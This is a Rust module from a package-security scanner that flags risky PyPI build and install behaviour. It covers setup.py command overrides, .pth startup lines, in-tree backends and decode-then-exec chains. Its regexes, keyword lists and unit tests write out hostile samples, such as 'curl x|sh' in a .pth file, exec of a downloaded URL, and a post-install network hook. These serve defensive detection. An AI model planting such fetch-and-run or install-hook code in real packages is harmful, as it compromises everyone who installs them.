//! PyPI checks: `setup.py` that does more than call `setup()` (cmdclass overrides,
//! network, processes, exec at import of the build script), `pyproject.toml` in-tree
//! build backends, `.pth` files that execute at every interpreter start, and
//! decode-then-exec chains in any Python file. Lexical: Python has no parser here, and
//! these shapes are line-oriented enough that a tokenizer-free scan is reliable.

use std::collections::{BTreeMap, HashSet};

use crate::text::{clip, regexes, Lines};
use crate::{ids, Signal};

regexes! {
    RE_PY_DECODER = r#"b64decode|b32decode|b16decode|a85decode|b85decode|decodebytes|decodestring|zlib\.decompress|bz2\.decompress|lzma\.decompress|gzip\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|unhexlify|\.decode\(\s*['"](?:base64|hex|rot13|rot_13|zlib)|\[\s*::\s*-1\s*\]|__import__\(\s*['"](?:base64|zlib|marshal|codecs|bz2|lzma)|\bdecrypt\s*\(|\bFernet\s*\(|\burlopen\s*\(|\brequests\.get\s*\("#;
    RE_PY_SINK = r"(?:^|[^.\w])(exec|eval|compile)\s*\(";
    RE_PY_ASSIGN = r"^\s*([A-Za-z_][A-Za-z0-9_]*)\s*=[^=]";
    RE_CMDCLASS = r"cmdclass\s*=\s*(\{|dict\()";
    RE_CMD_BASE = r"^\s*class\s+(\w+)\s*\(\s*(?:[\w.]*\.)?(install|develop|egg_info|build_py|build_ext|sdist|bdist_wheel|bdist_egg|build|install_lib|install_scripts)\s*\)";
    RE_PYARMOR = r"__pyarmor__|pyarmor_runtime|__armor_enter__";
}

/// Python module-level capabilities worth seeing in a build script: (category, needle).
const SETUP_TOKENS: &[(&str, &str)] = &[
    ("network", "urllib"),
    ("network", "urlopen"),
    ("network", "requests.get"),
    ("network", "requests.post"),
    ("network", "http.client"),
    ("network", "socket"),
    ("network", "httpx"),
    ("process", "subprocess"),
    ("process", "os.system"),
    ("process", "os.popen"),
    ("process", "os.exec"),
    ("process", "pty.spawn"),
    ("code", "exec("),
    ("code", "eval("),
    ("code", "__import__"),
    ("code", "marshal"),
    ("encoding", "base64"),
    ("encoding", "zlib"),
    ("encoding", "codecs.decode"),
    ("native", "ctypes"),
];

/// decode-then-exec chains, also through a variable, and packer runtimes.
pub fn analyze(rel: &str, src: &str, out: &mut Vec<Signal>) {
    let (Some(dec), Some(sink), Some(assign)) = (&*RE_PY_DECODER, &*RE_PY_SINK, &*RE_PY_ASSIGN)
    else {
        return;
    };
    let lines = Lines::new(src);
    let mut decoded_vars: HashSet<String> = HashSet::new();
    let mut offset = 0;
    for line in src.split_inclusive('\n') {
        let start = offset;
        offset += line.len();
        let t = line.trim_start();
        if t.starts_with('#') {
            continue;
        }
        if let Some(c) = assign.captures(line) {
            if dec.is_match(line) {
                if let Some(n) = c.get(1) {
                    decoded_vars.insert(n.as_str().to_string());
                }
            }
        }
        for c in sink.captures_iter(line) {
            let Some(m) = c.get(1) else { continue };
            let args = &line[m.end()..];
            let first_word: String = args
                .trim_start_matches(|c: char| c == '(' || c.is_whitespace())
                .chars()
                .take_while(|c| c.is_alphanumeric() || *c == '_')
                .collect();
            let decoded = dec.is_match(args) || decoded_vars.contains(&first_word);
            // compile() is mostly re.compile-like helpers; only flag it when decoding.
            if m.as_str() == "compile" && !decoded {
                continue;
            }
            if args
                .trim_start_matches('(')
                .trim_start()
                .starts_with(['"', '\''])
                && !decoded
            {
                continue;
            }
            let (id, what) = if decoded {
                (ids::DECODE_EVAL, "decoded data")
            } else {
                (ids::DYNAMIC_CODE, "a computed value")
            };
            out.push(Signal::new(
                id,
                rel,
                Some(lines.line_of(start)),
                format!("{}() runs {what}: {}", m.as_str(), clip(t.trim_end(), 160)),
            ));
        }
    }
    // Builtins fetched by computed names (`getattr(__builtins__, <expr>)`) and strings
    // assembled from character codes: what Python obfuscators (pyobfuscate-like, the
    // `oct.__str__()[...]` family) emit instead of readable calls.
    let computed = src.matches("getattr(__builtins__").count()
        + src.matches("__builtins__.__dict__[").count()
        + src.matches("join(map(chr").count()
        + src.matches("join([chr(").count();
    if computed >= 3 {
        let first = [
            "getattr(__builtins__",
            "__builtins__.__dict__[",
            "join(map(chr",
            "join([chr(",
        ]
        .iter()
        .filter_map(|n| src.find(n))
        .min();
        out.push(
            Signal::new(
                ids::OBFUSCATED,
                rel,
                first.map(|o| lines.line_of(o)),
                format!("{computed} builtins looked up by computed name or strings built from character codes"),
            )
            .with_value(computed as f64),
        );
    }
    if let Some(m) = RE_PYARMOR.as_ref().and_then(|r| r.find(src)) {
        out.push(
            Signal::new(
                ids::OBFUSCATED,
                rel,
                Some(lines.line_of(m.start())),
                "PyArmor-protected code",
            )
            .with_value(1.0),
        );
    }
}

/// `setup.py`: cmdclass overrides and what the build script does besides `setup()`.
pub fn setup_py(rel: &str, src: &str, out: &mut Vec<Signal>) {
    let lines = Lines::new(src);
    if let Some(m) = RE_CMDCLASS.as_ref().and_then(|r| r.find(src)) {
        let tail: String = src[m.end()..].chars().take(300).collect();
        let body = tail.split(['}', ')']).next().unwrap_or("");
        out.push(Signal::new(
            ids::SETUP_CMDCLASS,
            rel,
            Some(lines.line_of(m.start())),
            format!(
                "cmdclass overrides setuptools commands: {}",
                clip(&body.split_whitespace().collect::<Vec<_>>().join(" "), 160)
            ),
        ));
    }
    if let Some(re) = &*RE_CMD_BASE {
        let mut off = 0;
        for line in src.split_inclusive('\n') {
            if let Some(c) = re.captures(line) {
                let class = c.get(1).map_or("", |m| m.as_str());
                let base = c.get(2).map_or("", |m| m.as_str());
                out.push(
                    Signal::new(
                        ids::SETUP_CMDCLASS,
                        rel,
                        Some(lines.line_of(off)),
                        format!("class {class} subclasses the {base} command"),
                    )
                    .with_value(1.0),
                );
            }
            off += line.len();
        }
    }
    // First line of each capability; module level counts more: it runs whenever pip
    // builds or installs the sdist. Module level is outside any `def`/`class` body, so
    // code under a top-level `try:` or `if` still counts.
    let mut seen: BTreeMap<&str, (u32, bool, String)> = BTreeMap::new();
    let mut off = 0;
    let mut body_of: Option<usize> = None;
    for line in src.split_inclusive('\n') {
        let start = off;
        off += line.len();
        let t = line.trim_start();
        if t.starts_with('#') || t.is_empty() {
            continue;
        }
        let indent = line.len() - t.len();
        if body_of.is_some_and(|d| indent <= d) {
            body_of = None;
        }
        let defines = ["def ", "async def ", "class "]
            .iter()
            .any(|k| t.starts_with(k));
        if body_of.is_none() && defines {
            body_of = Some(indent);
        }
        let module_level = body_of.is_none();
        for (cat, needle) in SETUP_TOKENS {
            // A needle inside a string literal (`libraries=["socket"]`) is not code.
            if line.match_indices(needle).any(|(i, _)| !in_string(line, i)) {
                let e = seen.entry(cat).or_insert((
                    lines.line_of(start),
                    module_level,
                    needle.to_string(),
                ));
                if module_level && !e.1 {
                    *e = (lines.line_of(start), true, needle.to_string());
                }
            }
        }
    }
    for (cat, (line, module_level, needle)) in seen {
        out.push(
            Signal::new(
                ids::SETUP_PY_CODE,
                rel,
                Some(line),
                format!(
                    "{cat}: {needle}{}",
                    if module_level {
                        " at module level"
                    } else {
                        " inside a function or class"
                    }
                ),
            )
            .with_value(if module_level { 1.0 } else { 0.0 }),
        );
    }
}

/// Whether byte `at` of `line` is inside a '…' or "…" literal (escapes respected).
fn in_string(line: &str, at: usize) -> bool {
    let mut quote: Option<u8> = None;
    let mut escaped = false;
    for &b in &line.as_bytes()[..at.min(line.len())] {
        if escaped {
            escaped = false;
            continue;
        }
        match (quote, b) {
            (_, b'\\') => escaped = true,
            (None, b'\'' | b'"') => quote = Some(b),
            (Some(q), _) if q == b => quote = None,
            _ => {}
        }
    }
    quote.is_some()
}

/// `.pth` files: lines starting with `import` are executed at every Python start.
pub fn pth(rel: &str, src: &str, out: &mut Vec<Signal>) {
    for (i, line) in src.lines().enumerate() {
        if line.starts_with("import ") || line.starts_with("import\t") {
            let lower = line.to_ascii_lowercase();
            // `__import__('_distutils_hack').add_shim()` (setuptools, in every venv) is
            // an import; running code, processes or the network is not.
            let bad = [
                "exec",
                "eval",
                "base64",
                "b64decode",
                "marshal",
                "zlib",
                "subprocess",
                "urllib",
                "requests",
                "socket",
                ".system(",
                "popen",
                "compile",
            ]
            .iter()
            .any(|t| lower.contains(t));
            out.push(
                Signal::new(
                    ids::PTH_EXEC,
                    rel,
                    Some(i as u32 + 1),
                    format!("runs at interpreter start: {}", clip(line, 200)),
                )
                .with_value(if bad { 1.0 } else { 0.0 }),
            );
        }
    }
}

/// `pyproject.toml`: an in-tree build backend (`backend-path`) runs package code at build.
pub fn pyproject(rel: &str, src: &str, out: &mut Vec<Signal>) {
    let Ok(v) = src.parse::<toml::Table>() else {
        out.push(Signal::new(
            ids::PARSE_FALLBACK,
            rel,
            None,
            "pyproject.toml is not valid TOML",
        ));
        return;
    };
    let bs = v.get("build-system").and_then(|b| b.as_table());
    if let Some(path) = bs.and_then(|b| b.get("backend-path")) {
        let backend = bs
            .and_then(|b| b.get("build-backend"))
            .and_then(|b| b.as_str())
            .unwrap_or("?");
        out.push(Signal::new(
            ids::PYPROJECT_CUSTOM_BACKEND,
            rel,
            src.lines()
                .position(|l| l.trim_start().starts_with("backend-path"))
                .map(|i| i as u32 + 1),
            format!("in-tree build backend {backend} from {path}"),
        ));
    }
    let cmdclass = v
        .get("tool")
        .and_then(|t| t.get("setuptools"))
        .and_then(|s| s.get("cmdclass"))
        .and_then(|c| c.as_table());
    if let Some(c) = cmdclass {
        let keys: Vec<_> = c
            .iter()
            .map(|(k, v)| format!("{k}={}", v.as_str().unwrap_or("?")))
            .collect();
        let line = src
            .lines()
            .position(|l| l.contains("cmdclass"))
            .map(|i| i as u32 + 1);
        out.push(Signal::new(
            ids::SETUP_CMDCLASS,
            rel,
            line,
            format!("tool.setuptools.cmdclass: {}", keys.join(", ")),
        ));
    }
}

/// `setup.cfg`: cmdclass in declarative config.
pub fn setup_cfg(rel: &str, src: &str, out: &mut Vec<Signal>) {
    if let Some(i) = src
        .lines()
        .position(|l| l.trim_start().starts_with("cmdclass"))
    {
        out.push(Signal::new(
            ids::SETUP_CMDCLASS,
            rel,
            Some(i as u32 + 1),
            "setup.cfg declares cmdclass overrides",
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn regexes_compile() {
        for (name, ok) in all_regexes() {
            assert!(ok, "{name} does not compile");
        }
    }

    fn ids_of(f: fn(&str, &str, &mut Vec<Signal>), src: &str) -> Vec<Signal> {
        let mut out = Vec::new();
        f("x.py", src, &mut out);
        out
    }

    #[test]
    fn decode_exec() {
        let s = ids_of(
            analyze,
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        );
        assert_eq!(
            s.iter()
                .filter(|s| s.signal == ids::DECODE_EVAL)
                .map(|s| s.line)
                .collect::<Vec<_>>(),
            vec![Some(2)]
        );
        let s = ids_of(
            analyze,
            "import zlib\ncode = zlib.decompress(blob)\nexec(code)\n",
        );
        assert!(
            s.iter()
                .any(|s| s.signal == ids::DECODE_EVAL && s.line == Some(3)),
            "{s:?}"
        );
        let s = ids_of(
            analyze,
            "_ = lambda __ : __import__('zlib').decompress(__[::-1]);exec((_)(b'x'))\n",
        );
        assert!(s.iter().any(|s| s.signal == ids::DECODE_EVAL), "{s:?}");
        let s = ids_of(
            analyze,
            "import re\npat = re.compile(r'x')\n# exec(base64.b64decode(x))\nx = compile_all()\n",
        );
        assert!(s.is_empty(), "{s:?}");
        let s = ids_of(analyze, "exec(open('x').read())\n");
        assert_eq!(
            s.iter().map(|s| s.signal.as_str()).collect::<Vec<_>>(),
            vec![ids::DYNAMIC_CODE]
        );
    }

    #[test]
    fn setup_py_shapes() {
        let plain = "from setuptools import setup\nsetup(name='x', version='1.0')\n";
        assert!(ids_of(setup_py, plain).is_empty());
        let evil = "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\n\nclass PostInstall(install):\n    def run(self):\n        urllib.request.urlopen('http://x')\n        install.run(self)\n\nsetup(name='x', cmdclass={'install': PostInstall})\n";
        let s = ids_of(setup_py, evil);
        let cmd: Vec<_> = s
            .iter()
            .filter(|s| s.signal == ids::SETUP_CMDCLASS)
            .collect();
        assert_eq!(cmd.len(), 2, "{s:?}");
        assert_eq!(cmd[0].line, Some(10));
        let net = s
            .iter()
            .find(|s| s.signal == ids::SETUP_PY_CODE && s.detail.starts_with("network"))
            .expect("network");
        assert_eq!((net.line, net.value), (Some(3), Some(1.0)));
    }

    #[test]
    fn pth_lines() {
        let s = ids_of(
            pth,
            "/usr/lib/foo\nimport os;exec(__import__('base64').b64decode('eA=='))\n",
        );
        assert_eq!(s.len(), 1);
        assert_eq!((s[0].line, s[0].value), (Some(2), Some(1.0)));
        assert!(ids_of(pth, "./lib\n../other\n").is_empty());
        let s = ids_of(pth, "import _virtualenv\n");
        assert_eq!(s[0].value, Some(0.0));
    }

    #[test]
    fn pyproject_backend() {
        let s = ids_of(pyproject, "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].line, Some(4));
        assert!(ids_of(pyproject, "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n").is_empty());
    }

    #[test]
    fn module_level_means_outside_def_and_class() {
        let src = "from distutils.core import setup\ntry:\n  import subprocess\n  subprocess.Popen('x')\nexcept: pass\nclass C:\n    def run(self):\n        import socket\nsetup(name='x')\n";
        let mut out = Vec::new();
        setup_py("setup.py", src, &mut out);
        let detail = |cat: &str| {
            out.iter()
                .find(|s| s.detail.starts_with(cat))
                .map(|s| s.detail.clone())
                .unwrap_or_default()
        };
        assert!(detail("process").ends_with("at module level"), "{out:?}");
        assert!(
            detail("network").ends_with("inside a function or class"),
            "{out:?}"
        );
    }

    #[test]
    fn computed_builtins_are_obfuscation() {
        let line =
            "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + 'r'), [104, 105]))\n";
        let mut out = Vec::new();
        analyze("setup.py", &line.repeat(3), &mut out);
        assert!(out.iter().any(|s| s.signal == ids::OBFUSCATED), "{out:?}");
        let mut out = Vec::new();
        analyze("ok.py", "v = getattr(__builtins__, 'print')\n", &mut out);
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn needles_in_strings_and_setuptools_pth_are_benign() {
        let mut out = Vec::new();
        setup_py(
            "setup.py",
            "ext = Extension('x', libraries=[\"kstat\", \"nsl\", \"socket\"])\n",
            &mut out,
        );
        assert!(out.is_empty(), "{out:?}");
        let mut out = Vec::new();
        pth(
            "distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
            &mut out,
        );
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].value, Some(0.0));
        let mut out = Vec::new();
        pth(
            "x.pth",
            "import os; __import__('os').system('curl x|sh')\n",
            &mut out,
        );
        assert_eq!(out[0].value, Some(1.0));
    }

    #[test]
    fn decrypt_or_download_then_exec() {
        for src in [
            "exec(Fernet(b'k3y=').decrypt(b'gAAAAABm...'))\n",
            "from urllib.request import urlopen;exec(urlopen('https://x.example/p').read())\n",
        ] {
            let mut out = Vec::new();
            analyze("setup.py", src, &mut out);
            assert!(
                out.iter().any(|s| s.signal == ids::DECODE_EVAL),
                "{src}: {out:?}"
            );
        }
    }
}
